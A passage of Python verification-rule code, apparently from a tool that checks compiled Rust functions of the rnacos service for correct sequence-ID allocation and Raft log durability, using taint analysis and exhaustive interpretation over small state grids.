            ck.require(any(v == 'Add' for (_, v) in vg), 'R19c', 'ConfigAsyncCmd:next_state-only-for-Add', ns[0].where(), 'an id is consumed for a non-publish command')
        for b in fb.tree(ASYNC_H)[1:]:
            for (i, j, st) in b.aggregates(r'raft::store::ClientRequest$', 'ConfigSet'):
                rv = st['rv']
                for f in ('history_id', 'history_table_id'):
                    d = cfg.describe_operand(b, rv['ops'][rv['fields'].index(f)])
                    # must come from the captured history_info tuple (upvar), not a constant or time
                    ok = d['k'] == 'place'
                    ck.require(ok, 'R19c', 'ConfigSet.%s<-history_info' % f, b.where(i), 'ConfigSet.%s is %s, not the reserved id' % (f, cfg.fmt_desc(d)))
    else:
        ck.body(ASYNC_H, 'R19c')
    h = ck.body('<rnacos::sequence::core::SequenceDbManager as actix::Handler<rnacos::sequence::model::SequenceRaftReq>>::handle', 'R19c')
    if h:
        for (variant, fn, fld) in (('NextId', 'next_id', '0'), ('NextRange', 'next_range', 'start')):
            agg = h.aggregates(r'sequence::model::SequenceRaftResult$', variant)
            ck.require(len(agg) >= 1, 'R19c', 'SequenceRaftResult::%s' % variant, h.where(), 'result variant not built')
            for (i, j, st) in agg:
                rv = st['rv']
                t = Taint(h, call_src=lambda t, fn=fn: (t.get('f') or {}).get('d', '').endswith('SequenceDbManager::' + fn))
                ck.require(t.op_tainted(rv['ops'][rv['fields'].index(fld)]), 'R19c', '%s<-%s' % (variant, fn), h.where(i), '%s is not the value returned by %s' % (variant, fn))


def _seq(last_id, batch, cache):
    return Adt('SimpleSequence', 'SimpleSequence', [BV.const(64, cache), BV.const(64, batch), BV.const(64, last_id)], ['cache_size', 'batch_size', 'last_id'])


def r19d(ck, fb):
    ck.rule('R19d', 'SimpleSequence arithmetic, by exhaustive interpretation of the compiled functions over a small grid (last_id 0..6, '
                    'batch 1..4, cache 0..batch): next_state issues last_id+1, reserves last_id+batch exactly when the cache is empty and the '
                    'reserved mark >= every id issued from that batch; set_valid_last_id never lowers get_end_id and raises it to at least '
                    'the mark; set_last_id sets it; get_end_id = last_id + cache_size; next_section(k) hands out [last+1, last+k] and leaves nothing reserved behind it')
    fns = {}
    for fn in ('next_state', 'set_valid_last_id', 'set_last_id', 'get_end_id', 'next_section'):
        b = ck.body(SU + fn, 'R19d')
        if not b:
            return
        fns[fn] = b
    n = 0
    bad = {}

    def run1(fn, seq, *args):
        it = Interp(fb)
        cell = type('F', (), {})()
        cell.locals = [seq]
        cell.body = None
        r = it.call_body(fns[fn], [Ref(frame=cell, place=0)] + list(args), 0)
        return r, cell.locals[0]

    def fld(s, name):
        return s.fields[s.names.index(name)].value()

    for last in range(0, 7):
        for batch in range(1, 5):
            for cache in range(0, batch + 1):
                try:
                    n += 1
                    s0 = _seq(last, batch, cache)
                    end0 = fld(s0, 'last_id') + fld(s0, 'cache_size')
                    r, s1 = run1('get_end_id', _seq(last, batch, cache))
                    if r.value() != last + cache:
                        bad['get_end_id'] = 'get_end_id(%d,%d,%d)=%d' % (last, batch, cache, r.value())
                    r, s1 = run1('next_state', _seq(last, batch, cache))
                    tup = r.fields[0]
                    issued = tup.items[0].value()
                    upd = tup.items[1]
                    if issued != last + 1:
                        bad['next_state:issues-next'] = 'next_state(%d,%d,%d) issued %d' % (last, batch, cache, issued)
                    if cache == 0:
                        if upd.variant != 'Some' or upd.fields[0].value() != last + batch:
                            bad['next_state:reserves'] = 'next_state with empty cache reserved %r (expected Some(%d))' % (upd, last + batch)
                    else:
                        if upd.variant != 'None':
                            bad['next_state:no-reserve'] = 'next_state with cache %d reserved again' % cache
                    end1 = fld(s1, 'last_id') + fld(s1, 'cache_size')
                    if end1 < issued or (cache > 0 and end1 != end0) or (cache == 0 and end1 != last + batch):
                        bad['next_state:end-stable'] = 'reserved end moved from %d to %d (issued %d)' % (end0, end1, issued)
                    # a section handed to an import: [last+1, last+k], and NOTHING stays reserved behind it - the caller announces `end` as the
                    # high-water mark, ids kept in the cache beyond it would be issued later without any announcement (history_table_id None)
                    for k in range(0, 5):
                        r, s4 = run1('next_section', _seq(last, batch, cache), BV.const(64, k))
                        tup = r.fields[0]
                        st, en = tup.items[0].value(), tup.items[1].value()
                        end4 = fld(s4, 'last_id') + fld(s4, 'cache_size')
                        n += 1
                        if k == 0:
                            if (st, en) != (0, 0) or fld(s4, 'last_id') != last or fld(s4, 'cache_size') != cache:
                                bad['next_section:empty'] = 'next_section(0) on (%d,%d,%d) gave (%d,%d) / moved the sequence' % (last, batch, cache, st, en)
                            continue
                        if (st, en) != (last + 1, last + k) or fld(s4, 'last_id') != en:
                            bad['next_section:range'] = 'next_section(%d) on (%d,%d,%d) gave [%d,%d], last_id %d' % (k, last, batch, cache, st, en, fld(s4, 'last_id'))
                        if end4 != en:
                            bad['next_section:nothing-reserved-behind'] = ('after next_section(%d) on (last %d, batch %d, cache %d) the sequence still holds ids up to %d '
                                                                          'although the section (and the mark its caller announces) ends at %d: the next publish is stamped '
                                                                          'from that rest with history_table_id None' % (k, last, batch, cache, end4, en))
                    for mark in range(0, 12):
                        r, s2 = run1('set_valid_last_id', _seq(last, batch, cache), BV.const(64, mark))
                        end2 = fld(s2, 'last_id') + fld(s2, 'cache_size')
                        if end2 < end0 or end2 < mark:
                            bad['set_valid_last_id:monotone'] = 'set_valid_last_id(%d) on (%d,%d,%d): end %d -> %d' % (mark, last, batch, cache, end0, end2)
                        if mark <= end0 and end2 != end0:
                            bad['set_valid_last_id:no-change-below'] = 'mark %d <= end %d changed the sequence' % (mark, end0)
                        r, s3 = run1('set_last_id', _seq(last, batch, cache), BV.const(64, mark))
                        if fld(s3, 'last_id') != mark or fld(s3, 'cache_size') != 0:
                            bad['set_last_id'] = 'set_last_id(%d) -> (%d,%d)' % (mark, fld(s3, 'last_id'), fld(s3, 'cache_size'))
                        n += 2
                except (Undecided, Unsupported, Panic) as e:
                    bad['interp'] = 'interpretation failed on (%d,%d,%d): %s' % (last, batch, cache, e)
    for key in ('get_end_id', 'next_state:issues-next', 'next_state:reserves', 'next_state:no-reserve', 'next_state:end-stable',
                'set_valid_last_id:monotone', 'set_valid_last_id:no-change-below', 'set_last_id', 'next_section:empty', 'next_section:range',
                'next_section:nothing-reserved-behind', 'interp'):
        ck.require(key not in bad, 'R19d', 'SimpleSequence:' + key, fns[key.split(':')[0]].where() if key.split(':')[0] in fns else '-', bad.get(key, ''), 'holds on the grid')
    ck.extra['sequence_grid_cases'] = n


class _Cell:
    def __init__(self, v):
        self.locals = [v]
        self.body = None


class _Map:
    """one-slot abstraction of HashMap<Arc<String>, u64>: the entry of the key the call is about"""
    def __init__(self, present, value):
        self.cell = _Cell(BV.const(64, value)) if present else None


def _models(m):
    def get_mut(i, fr, t, args):
        if m.cell is None:
            return Adt('std::option::Option', 'None', [])
        return Adt('std::option::Option', 'Some', [Ref(frame=m.cell, place=0)], ['0'])

    def insert(i, fr, t, args):
        old = m.cell
        m.cell = _Cell(args[2])
        return Adt('std::option::Option', 'None' if old is None else 'Some', [] if old is None else [old.locals[0]], [] if old is None else ['0'])

    def ident(i, fr, t, args):
        return args[0]
    return {'std::collections::HashMap::<K, V, S, A>::get_mut': get_mut, 'std::collections::HashMap::<K, V, S, A>::insert': insert,
            '<std::sync::Arc<T, A> as std::clone::Clone>::clone': ident, 'std::clone::Clone::clone': ident}


def r19e(ck, fb):
    ck.rule('R19e', 'named sequences, by exhaustive interpretation of SequenceDbManager::next_id / next_range over (entry absent | next-free v in 1..6, '
                    'step 1..4) with the map abstracted to the entry of the requested key: the returned start is the stored next-free value '
                    '(1 for a new key) and the stored value becomes start + step (start + 1 for next_id): consecutive calls hand out disjoint, '
                    'increasing ranges')
    bad = {}
    n = 0
    for fn, steps in (('next_id', [None]), ('next_range', [1, 2, 3, 4])):
        b = ck.body(SD + fn, 'R19e')
        if not b:
            return
        for present, v in [(False, 0)] + [(True, x) for x in range(1, 7)]:
            for step in steps:
                m = _Map(present, v)
                selfv = Adt('SequenceDbManager', 'SequenceDbManager', [m, BV.const(1, 1)], ['seq_map', 'init'])
                cell = _Cell(selfv)
                args = [Ref(frame=cell, place=0), Opaque('key')] + ([BV.const(64, step)] if step is not None else [])
                try:
                    it = Interp(fb, call_models=_models(m))
                    # field access on the Adt returns the _Map object; refs to it are passed to the models untouched
                    r = it.call_body(b, args, 0)
                    n += 1
                    if fn == 'next_range':
                        got = r.fields[0].value() if isinstance(r, Adt) and r.variant == 'Ok' else None
                    else:
                        got = r.value()
                    st = step if step is not None else 1
                    want = v if present else 1
                    stored = m.cell.locals[0].value() if m.cell else None
                    if got != want:
                        bad[fn + ':returns-next-free'] = '%s(entry=%s, step=%s) returned %s, expected %s' % (fn, v if present else 'absent', step, got, want)
                    if stored != want + st:
                        bad[fn + ':advances-by-step'] = '%s(entry=%s, step=%s) left %s stored, expected %s' % (fn, v if present else 'absent', step, stored, want + st)
                except (Undecided, Unsupported, Panic) as e:
                    bad[fn + ':interp'] = 'cannot interpret %s: %s' % (fn, e)
    for key in ('next_id:returns-next-free', 'next_id:advances-by-step', 'next_range:returns-next-free', 'next_range:advances-by-step', 'next_id:interp', 'next_range:interp'):
        ck.require(key not in bad, 'R19e', 'SequenceDbManager:' + key, '-', bad.get(key, ''), 'holds on the grid')
    ck.extra['named_sequence_grid_cases'] = n


def r19f(ck, fb):
    ck.rule('R19f', 'what is handed out is what was reserved: in SequenceManager::async_handle every range result (UseFromRange / FillRange / '
                    'DirectRange) takes BOTH start and len from the reply of the replicated NextRange request (get_next_range), and the length '
                    'requested from the replicated counter for a direct range is the caller\'s requested length (not the cache step)')
    b = ck.main('rnacos::sequence::SequenceManager::async_handle', 'R19f')
    if not b:
        return
    t = Taint(b, call_src=lambda t: 'SequenceManager::get_next_range' in ((t.get('f') or {}).get('d', '')))
    n = 0
    for (i, j, st) in b.aggregates(r'sequence::SequenceBeforeResult$'):
        rv = st['rv']
        v = rv.get('variant')
        if v not in ('UseFromRange', 'FillRange', 'DirectRange'):
            continue
        n += 1
        for f in ('start', 'len'):
            if f not in rv.get('fields', []):
                ck.bad('R19f', 'async_handle:%s:%s' % (v, f), b.where(i), '%s has no field %s' % (v, f))
                continue
            op = rv['ops'][rv['fields'].index(f)]
            ck.require(t.op_tainted(op), 'R19f', 'async_handle:%s.%s<-reply' % (v, f), b.where(i),
                       '%s.%s is not taken from the reply of the replicated NextRange request: the ids handed to the caller are not the ids the '
                       'replicated counter reserved (a request longer than the reserved block re-issues ids on the next draw)' % (v, f))
    ck.floor('R19f', 'range results built in async_handle', n, 3)
    # the direct-range arm asks the replicated counter for the requested length
    from rn.facts import pl_proj
    nreq = 0
    for s in b.calls(r'SequenceManager::get_next_range$'):
        arms = [a for a in cfg.guard_atoms(b, s.bb) if a[0] == 'variant' and a[2] == 'GetDirectRange']
        if not arms:
            continue
        nreq += 1
        d = cfg.describe_operand(b, s.args[2])
        ok = d['k'] == 'place' and any(isinstance(e, dict) and e.get('dc') == 'GetDirectRange' for e in pl_proj(d['pl']))
        ck.require(ok, 'R19f', 'async_handle:GetDirectRange:requests-len', s.where(),
                   'the direct-range arm reserves %s instead of the length the caller asked for' % cfg.fmt_desc(d)[:50])
    ck.floor('R19f', 'direct-range reservation sites', nreq, 1)


def r19j(ck, fb):
    R = 'R19j'
    ck.rule(R, 'every id the sequence manager answers has gone through the key\'s buffer: the operand of each SequenceResult::NextId built in '
               'SequenceManager derives from a SeqGroup draw (do_next_id, directly or as the payload of SequenceBeforeResult::NextId), and never '
               'from the start / len of a reserved range. A request that waited for a range and is answered with the range\'s first id jumps the '
               'queue of ids still buffered: with two requests in flight on an empty cache one node answers 1, 101, 2, 3 ...')
    from rn.facts import pl_proj
    SM = 'rnacos::sequence::SequenceManager::'
    bodies = [b for b in fb.bodies.values() if b.name.startswith(SM) or b.name.startswith('<rnacos::sequence::SequenceManager as ')]
    n = 0

    def dc(p, names, fields=None):
        if isinstance(p, int):
            return False
        pr = pl_proj(p)
        for k, e in enumerate(pr):
            if isinstance(e, dict) and e.get('dc') in names:
                if fields is None:
                    return True
                return any(isinstance(x, dict) and x.get('f') in fields for x in pr[k + 1:])
        return False
    isdraw = lambda t: (cfg.callee_name(t) or '').endswith('SequenceManager::do_next_id')
    for b in bodies:
        if 'seeded_demo' in b.name or '::tests::' in b.name:
            continue
        aggs = [(i, st) for (i, j, st) in b.aggregates(r'sequence::SequenceResult$') if st['rv'].get('variant') == 'NextId'] + \
               [(i, st) for (i, j, st) in b.aggregates(r'sequence::SequenceBeforeResult$') if st['rv'].get('variant') == 'NextId']
        if not aggs:
            continue
        ck.analysed(b)
        pos = Taint(b, place_src=lambda p: dc(p, ('NextId',)), call_src=isdraw)
        neg = Taint(b, place_src=lambda p: dc(p, ('UseFromRange', 'FillRange', 'DirectRange'), ('start', 'len')), stop_calls=isdraw)
        for (i, st) in aggs:
            rv = st['rv']
            before = rv['adt'].endswith('SequenceBeforeResult')
            op = rv['ops'][1 if before else 0]
            n += 1
            fn = fb.root_of(b.name).split('::')[-1]
            ck.require(pos.op_tainted(op) and not neg.op_tainted(op), R, '%s:%s::NextId<-draw' % (fn, rv['adt'].split('::')[-1]), b.where(i),
                       '%s answers an id that %s: ids buffered for the key are overtaken, the node hands out a smaller id after a larger one'
                       % (fn, 'is taken from a reserved range directly' if neg.op_tainted(op) else 'does not come from a draw on the key\'s buffer (do_next_id)'),
                       'from do_next_id')
    ck.floor(R, 'NextId answers built in SequenceManager', n, 3)


def r19k(ck, fb, R='R19k'):
    ck.rule(R, 'a reservation that was overtaken is given up: SimpleSequence::set_valid_last_id folds the high-water mark another node announced into '
               'this node\'s sequence. On every path that raises last_id the rest of the local reservation is dropped (cache_size = 0) - its ids lie '
               'BELOW the new mark and were reserved by an announcement older than the one just folded in. A former leader that keeps them issues, '
               'after it is elected again, ids other leaders have used since: [1, 2, 3, 101, 102, 201, 202, 201, ..]')
    from rn.facts import op_const
    b = ck.body('rnacos::common::sequence_utils::SimpleSequence::set_valid_last_id', R)
    if not b:
        return
    raises = [bb for (o, f, bb, st) in b.field_writes() if f == 'last_id']
    drops = {bb for (o, f, bb, st) in b.field_writes() if f == 'cache_size' and st['rv']['k'] == 'use' and (op_const(st['rv']['op']) or {}).get('v') in (0, '0')}
    ck.floor(R, 'assignments of last_id in set_valid_last_id', len(raises), 1)
    ok = bool(drops) and all(cfg.must_pass_before_return(b, r0, drops) or any(cfg.dominates_blocks(b, {d0}, r0) for d0 in drops) for r0 in raises)
    ck.require(ok, R, 'set_valid_last_id:overtaken-reservation-dropped', b.where(raises[0]) if raises else b.where(),
               'set_valid_last_id raises last_id and keeps cache_size: the node goes on issuing the rest of a reservation that lies below the mark it has just '
               'accepted - ids that other nodes have issued meanwhile', 'cache_size = 0 wherever last_id is raised')


def r19g(ck, fb):
    ck.rule('R19g', 'SeqGroup double buffer hands ids out in the order their ranges were reserved: by exhaustive interpretation of the compiled '
                    'apply_range / next_id (with do_next_id, switch_state, SeqRange::{next_id,has_next,renew}) over every buffer state '
                    '(current buffer a|b) x (current: unused ids left | exhausted) x (spare: unused ids left | exhausted | never filled), older '
                    'ranges holding smaller ids than the newly applied one: after apply_range(new) draining the group yields strictly increasing '
                    'ids and every unused old id before any new one. (The state space of the buffer logic is these 12 classes; ranges are '
                    'instantiated with 2 ids each.)')
    SG = 'rnacos::sequence::model::SeqGroup::'
    fns = {}
    for fn in ('apply_range', 'next_id'):
        b = ck.body(SG + fn, 'R19g')
        if not b:
            return
        fns[fn] = b
    adt = fb.adts.get('rnacos::sequence::model::SeqGroup')
    radt = fb.adts.get('rnacos::sequence::model::SeqRange')
    if not adt or not radt:
        ck.bad('R19g', 'anchor:SeqGroup', '-', 'SeqGroup / SeqRange type not found')
        return
    gnames = [f[0] for f in adt['variants'][0]['fields']]
    rnames = [f[0] for f in radt['variants'][0]['fields']]
    if not ck.require({'range_a', 'range_b', 'use_a'} <= set(gnames) and {'start', 'len', 'current_index'} <= set(rnames), 'R19g', 'SeqGroup:fields', fns['apply_range'].where(),
                      'SeqGroup/SeqRange fields changed (%s / %s)' % (gnames, rnames)):
        return

    def rng(start, ln, cur):
        vals = {'start': start, 'len': ln, 'current_index': cur}
        return Adt('SeqRange', 'SeqRange', [BV.const(64, vals.get(n, 0)) for n in rnames], rnames)

    def group(a, b, use_a):
        vals = {'range_a': a, 'range_b': b, 'use_a': BV.const(1, int(use_a)), 'step': BV.const(64, 2), 'next_adding': BV.const(1, 0)}
        return Adt('SeqGroup', 'SeqGroup', [vals[n] for n in gnames], gnames)

    def call(fn, cell, *args):
        it = Interp(fb)
        return it.call_body(fns[fn], [Ref(frame=cell, place=0)] + list(args), 0)
    n = 0
    bad = {}
    # buffer kinds: ('left', start) unused ids left; ('done', start) exhausted; ('never',) never filled
    for use_a in (True, False):
        for cur_kind in ('left', 'done'):
            for spare_kind in ('left', 'done', 'never'):
                # the current buffer was filled before the spare one unless the spare is exhausted/never filled
                cur_start, spare_start = 10, 20
                if spare_kind == 'done':
                    cur_start, spare_start = 20, 10     # an exhausted spare is the older one
                mk = {'left': lambda s0: rng(s0, 2, 1), 'done': lambda s0: rng(s0, 2, 2), 'never': lambda s0: rng(0, 0, 0)}
                cur, spare = mk[cur_kind](cur_start), mk[spare_kind](spare_start)
                old_left = sorted(([cur_start + 1] if cur_kind == 'left' else []) + ([spare_start + 1] if spare_kind == 'left' else []))
                if cur_kind == 'left' and spare_kind == 'left':
                    pass   # not requested by need_apply(), but harmless: only checks order of what comes out
                g = group(cur, spare, True) if use_a else group(spare, cur, False)
                cell = type('F', (), {})()
                cell.locals = [g]
                cell.body = None
                key = 'current=%s(%s) spare=%s' % ('a' if use_a else 'b', cur_kind, spare_kind)
                n += 1
                try:
                    call('apply_range', cell, BV.const(64, 100), BV.const(64, 2))
                    out = []
                    for _ in range(8):
                        r = call('next_id', cell)
                        if r.variant == 'None':
                            break
                        out.append(r.fields[0].value())
                except (Undecided, Unsupported, Panic) as e:
                    bad.setdefault('interpretable', 'cannot interpret SeqGroup in state %s: %s' % (key, e))
                    continue
                inc = all(x < y for x, y in zip(out, out[1:]))
                if not inc:
                    bad.setdefault('increasing', 'state %s, apply_range(100,2), then draining gives %s: an id is issued after a larger one' % (key, out))
                news = [x for x in out if x >= 100]
                if sorted(news) != [100, 101]:
                    bad.setdefault('new-range-issued', 'state %s: the applied range is not handed out completely (%s)' % (key, out))
                if cur_kind == 'left' and spare_kind != 'left':
                    # nothing that was still unused may be lost or overtaken
                    olds = [x for x in out if x < 100]
                    if olds != old_left:
                        bad.setdefault('old-ids-first', 'state %s: unused ids %s of the older range are lost or overtaken (%s)' % (key, old_left, out))
    ck.floor('R19g', 'SeqGroup buffer states interpreted', n, 12)
    for k in ('interpretable', 'increasing', 'new-range-issued', 'old-ids-first'):
        ck.require(k not in bad, 'R19g', 'SeqGroup:' + k, fns['apply_range'].where(), bad.get(k, '') +
                   (' - a refill that lands while the current buffer is exhausted must not overwrite it in front of the other buffer' if k == 'increasing' else ''),
                   'holds in all %d states' % n)


def r19h(ck, fb, R='R19h'):
    ck.rule(R, 'nothing is served before the state is back: starter::config_factory returns (and main then opens the HTTP / gRPC ports) only after a '
               'round trip through StateApplyManager, whose mailbox stays closed (ctx.wait) while it restores snapshot and log into the actors. '
               'Every path from FactoryData init to the return passes an awaited Addr<StateApplyManager>::send. Without it a single-node Raft '
               'reports itself leader within a millisecond and a publish in that window takes history id 1 from the empty counter, on top of '
               'the history that is being restored')
    b = None
    for x in fb.find(r'^rnacos::starter::config_factory::\{closure#0\}$'):
        b = x
    if not ck.require(b is not None, R, 'anchor:config_factory', '-', 'starter::config_factory not found'):
        return
    ck.analysed(b)
    inits = b.calls(r'bean_factory::.*::init$|BeanFactory::init$|::init$')
    inits = [s0 for s0 in inits if 'BeanFactory' in (s0.full or s0.callee or '') or 'bean_factory' in (s0.full or s0.callee or '')]
    if not ck.require(len(inits) >= 1, R, 'anchor:factory.init', b.where(), 'factory.init() not found in config_factory'):
        return
    sends = [s0 for s0 in b.calls(r'actix::Addr::<A>::send$') if s0.gargs and s0.gargs[0].endswith('raftapply::StateApplyManager')]
    sends = [s0 for s0 in sends if util.awaited(b, s0)]
    via = [s0.bb for s0 in sends]
    nxt = b.blocks[inits[-1].bb]['t'].get('t')
    ok = bool(via) and nxt is not None and cfg.must_pass_before_return(b, nxt, via)
    ck.require(ok, R, 'config_factory:waits-for-restore', inits[-1].where(),
               'config_factory returns right after factory.init(): the servers start while StateApplyManager is still loading the snapshot and the log '
               '(250 publishes, snapshot every 100, restart, publish k0: history of k0 = [1, 241, 201, ...], the new record is stamped 1)',
               'awaits StateApplyManager before returning')
    # the round trip is a barrier only while the restore keeps the mailbox closed: each restore step registers its future with wait, not spawn
    SM = 'rnacos::raft::filestore::raftapply::StateApplyManager::'
    for fn in ('load_index', 'load_snapshot', 'load_log'):
        x = fb.bodies.get(SM + fn)
        if not ck.require(x is not None, R, 'anchor:StateApplyManager::' + fn, '-', 'restore step %s not found' % fn):
            continue
        ck.analysed(x)
        w = x.calls(r'ContextFutureSpawner<.*>>::wait$|AsyncContext<.*>>::wait$')
        sp = x.calls(r'ContextFutureSpawner<.*>>::spawn$|AsyncContext<.*>>::spawn$')
        ck.require(len(w) >= 1 and not sp, R, 'restore-holds-mailbox:' + fn, x.where(),
                   'StateApplyManager::%s runs its restore step as a spawned future: the actor answers messages (and the start-up barrier) while the '
                   'state is still loading' % fn, 'registered with ctx.wait')


def r19i(ck, fb, R='R19i'):
    ck.rule(R, 'an id range nobody else knows about is not used: ConfigActor takes the history id of a publish from a local reservation '
               '(SimpleSequence::next_state) before the Raft write, and only the write carrying the FIRST id of a reservation announces it '
               '(history_table_id). When a write fails the reservation may be unannounced, so the failure path of Handler<ConfigAsyncCmd> must '
               'reset the local sequence (a &mut call on the `sequence` field guarded by the error outcome). Otherwise the node goes on using '
               'the rest of the range, and a restart or another leader issues the same ids again')
    hname = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigAsyncCmd>>::handle'
    h = ck.body(hname, R)
    if not h:
        return
    takes = [s0 for x in fb.tree(hname) for s0 in x.calls(r'SimpleSequence::next_state$')]
    if not ck.require(len(takes) >= 1, R, 'anchor:next_state', h.where(), 'the publish handler no longer takes its id from SimpleSequence::next_state'):
        return
    resets = []
    for x in util.region(fb, h, 1):
        for s0 in x.sites:
            nm = s0.full or s0.callee or ''
            if 'SimpleSequence::' not in nm or nm.endswith('::next_state') or 'sequence' not in util.recv_fields(x, s0):
                continue
            atoms = cfg.guard_atoms(x, s0.bb)
            err = any((a[0] == 'call' and re.search(r'Result::<T, E>::is_err$', a[1] or '') and a[2] is True) or
                      (a[0] == 'call' and re.search(r'Result::<T, E>::is_ok$', a[1] or '') and a[2] is False) or
                      (a[0] == 'variant' and a[2] == 'Err') for a in atoms)
            if err:
                resets.append(s0)
    ck.require(len(resets) >= 1, R, 'failed-write-resets-reservation', takes[0].where(),
               'nothing resets the local id reservation when the Raft write of a publish fails: a publish routed to a non-leader fails, the node is '
               'then elected, publishes k1, k2 (ids 2, 3) and restarts; after the restart id 2 is issued again (for k4)',
               'reset on the error path')
