"""C02 Raft log: acknowledged entries survive reopen unchanged; none are invented."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands, op_place, pl_fields
from . import c20

RL = 'rnacos::raft::filestore::raftlog::'
LIM = RL + 'LogInnerManager::'
LM = RL + 'RaftLogManager::'
FS = '<rnacos::raft::filestore::core::FileStore as async_raft_ext::RaftStorage<rnacos::raft::store::ClientRequest, rnacos::raft::store::ClientResponse>>::'


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "what was acknowledged is what a reopened log returns": (a) the byte width used to rewind '
        'the 128-record index area is computed from the same quantity (file offset delta) that write() encodes; (b) the stream '
        'reader used to recover the end of the log on reopen never judges end-of-data from an unvalidated byte (shared with C20); '
        '(c) every acknowledgement Ok(Success) sent by RaftLogManager::{write,write_batch} lies under the Success/SuccessToEnd arm '
        'of the awaited file write, Ignore only for the empty batch; (d) the contiguity guard end_index == record.index '
        'precedes the data write; (e) no Result on the append chain is discarded; (f) every change of the list of log files is '
        'paired with saving the catalogue; (g) FileStore appends wait for the oneshot result and map it.')
    ck.undecided = 'Does not decide byte-level equality of entries after reopen for all payload size sequences (runtime values).'
    r02a(ck, fb)
    # R02b = R20b (reported under C02 too because move_to_index_by_count recovers msg_count through it)
    ck.rule('R02b', 'same as R20b: MessageBufReader end-of-data test reads only validated bytes (consumer: move_to_index_by_count)')
    sub = type(ck)(ck.prop, fb, write=False)
    c20.r20b(sub, fb)
    for o in sub.obligations:
        rule = 'R02b'
        if o[2] == 'ok':
            ck.ok(rule, o[1], o[3], o[4])
        else:
            ck.bad(rule, o[1], o[3], o[4])
    ck.functions |= sub.functions
    r02c(ck, fb)
    r02d(ck, fb)
    r02e(ck, fb)
    r02f(ck, fb)
    r02g(ck, fb)
    r02h(ck, fb)
    r02i(ck, fb)
    r02m(ck, fb)
    r02n(ck, fb)
    r02o(ck, fb)
    r02p(ck, fb)
    r02q(ck, fb)
    r02r(ck, fb)
    r02s(ck, fb)
    ck.borrow('rules.c03', {'R03b': 'R02j', 'R03g': 'R02k', 'R03i': 'R02l'}, 'a truncation that leaves wrong cursors / keeps the suffix breaks the reopened log')
    ck.borrow('rules.c20', {'R20h': 'R02t', 'R20j': 'R02u'}, 'a log entry that crosses a read-chunk boundary is returned unchanged only if the unread bytes are carried to the front completely before the next chunk is appended')


def r02a(ck, fb):
    ck.rule('R02a', 'index area: the value given to write_varint64 in write() is a file-offset delta; every inner_sizeof_varint whose '
                    'result adjusts index_cursor / the index offset must size a file-offset delta too (never a log-index delta)')
    w = ck.main(LIM + 'write', 'R02a')
    if w:
        wv = util.region_calls(fb, w, r'protobuf_utils::write_varint64$')
        ck.floor('R02a', 'write_varint64 in write()', len(wv), 1)
        for (b2, s) in wv:
            src = Taint(b2, place_src=field_place_src('data_cursor', 'file_index'))
            ck.require(src.op_tainted(s.args[0]), 'R02a', 'write:varint<-file-offset', s.where(),
                       'the index entry written by write() is no longer a file offset delta', 'data_cursor - last.file_index')
            bad = Taint(b2, place_src=field_place_src('log_index', 'msg_count'))
            ck.require(not bad.op_tainted(s.args[0]), 'R02a', 'write:varint-not-log-index', s.where(),
                       'the index entry written by write() mixes in a log index')
        # index_cursor advances by the length of the written varint (in whichever body of the region writes it)
        okadv = False
        for b2 in util.region(fb, w):
            t = Taint(b2, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('write_varint64'))
            adv = [st for (o, f, bb, st) in b2.field_writes() if f == 'index_cursor']
            if adv and all(any(t.op_tainted(x) for x in rv_operands(st['rv'])) for st in adv):
                okadv = True
            elif adv:
                okadv = False
                break
        ck.require(okadv, 'R02a', 'write:index_cursor+=len(varint)', w.where(), 'index_cursor is not advanced by the length of the written index entry')
    n = 0
    for name in (LIM + 'get_file_index_by_log_index', LIM + 'read_indexs'):
        b = ck.body(name, 'R02a')
        if not b:
            continue
        for s in b.calls(r'protobuf_utils::inner_sizeof_varint$'):
            n += 1
            good = Taint(b, place_src=field_place_src('file_index'),
                         call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('read_varint64_offset'))
            bad = Taint(b, place_src=field_place_src('log_index'))
            ok = good.op_tainted(s.args[0]) and not bad.op_tainted(s.args[0])
            ck.require(ok, 'R02a', '%s:sizeof-arg' % b.name, s.where(),
                       'inner_sizeof_varint sizes a log-index delta (always 128 -> 2 bytes) but write() stored a file-offset delta '
                       '(1..4 bytes): after a truncation across an index entry index_cursor is rewound by the wrong number of bytes '
                       'and the index area is corrupt on reopen', 'sizes a file-offset delta')
    ck.floor('R02a', 'inner_sizeof_varint sites that move the index cursor', n, 2)
    # the rewinder sizes the delta between ADJACENT entries (that is what write() stored): the reference entry is loop-carried
    b = ck.body(LIM + 'get_file_index_by_log_index', 'R02a')
    if b:
        from rn.facts import op_place, pl_local, pl_proj
        nx = b.calls(r'Iterator>::next$')
        it = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Iterator::next'))
        for s in b.calls(r'protobuf_utils::inner_sizeof_varint$'):
            # locals whose .file_index feeds the sized value
            bases = set()
            seen = set()

            def walk(op, depth=0):
                pl = op_place(op)
                if pl is None or depth > 8:
                    return
                l = pl_local(pl)
                fs = [e.get('f') for e in pl_proj(pl) if isinstance(e, dict) and 'f' in e]
                if 'file_index' in fs:
                    bases.add(l)
                    return
                if l in seen:
                    return
                seen.add(l)
                for kind, bb, j, node in b.defs.get(l, []):
                    if kind == 'stmt':
                        for o in rv_operands(node['rv']):
                            walk(o, depth + 1)
            walk(s.args[0])
            prev = [l for l in bases if not it.op_tainted({'cp': {'l': l, 'p': []}}) or len(b.defs.get(l, [])) > 1]
            carried = True
            for l in prev:
                defs = b.defs.get(l, [])
                inloop = [d for d in defs if d[1] in cfg.reach_from(b, [s.bb]) and s.bb in cfg.reach_from(b, [d[1]])]
                if not inloop:
                    carried = False
            ck.require(len(bases) >= 2 and carried, 'R02a', 'get_file_index_by_log_index:adjacent-delta', s.where(),
                       'the popped index entries are sized against a fixed reference entry instead of their neighbour: write() stores each entry as '
                       'the varint of the offset delta to the PREVIOUS entry, so the reference must advance with the loop (two deltas that each fit '
                       '2 bytes can sum to a 3-byte value: index_cursor is rewound one byte too far and the last kept entry is damaged)',
                       'reference entry advances with the loop')


def r02c(ck, fb):
    ck.rule('R02c', 'acknowledgement after effect: oneshot send(Ok(WriteLogResult::Success)) only under LogWriteResult::Success|SuccessToEnd '
                    'of the awaited RaftLogRequest::Write/WriteBatch; Ignore only for an empty batch; the write future is registered with ctx.wait')
    n = 0
    for fn in ('write', 'write_batch'):
